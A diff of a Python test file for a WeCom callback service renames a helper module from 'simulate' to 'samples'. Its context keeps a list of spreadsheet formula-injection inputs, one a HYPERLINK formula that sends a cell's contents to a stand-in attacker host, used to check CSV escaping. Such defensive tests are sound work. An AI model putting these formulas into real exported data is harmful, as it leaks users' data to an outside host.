@@ -15,7 +15,7 @@ import pytest
 
 from conftest import API_TOKEN, ROOT
 from peer import CORP_ID, WecomPeer
-from wecomd.wecom import simulate
+from wecomd.wecom import samples
 
 # What a spreadsheet would run as a formula, and what it shows as text after the OWASP escape.
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-2+3", "+1", "@SUM(A1:A9)", "\tx", "\rx"]
@@ -33,7 +33,7 @@ def wecomd(*args: str, **kw) -> subprocess.CompletedProcess:
 
 def send(server, app: str, agent_id: str, content: str, from_user: str = "zhangsan") -> None:
     """A text callback to `app`; a leading CR is sent as &#13;, since XML turns a raw one into LF."""
-    xml = simulate.build("text", corp_id=CORP_ID, agent_id=agent_id, content="MARKER", from_user=from_user)
+    xml = samples.build("text", corp_id=CORP_ID, agent_id=agent_id, content="MARKER", from_user=from_user)
     xml = xml.replace("<![CDATA[MARKER]]>", content.replace("\r", "&#13;") if content.startswith("\r")
                       else "<![CDATA[%s]]>" % content)
     req = WecomPeer().callback(xml, agent_id=agent_id)
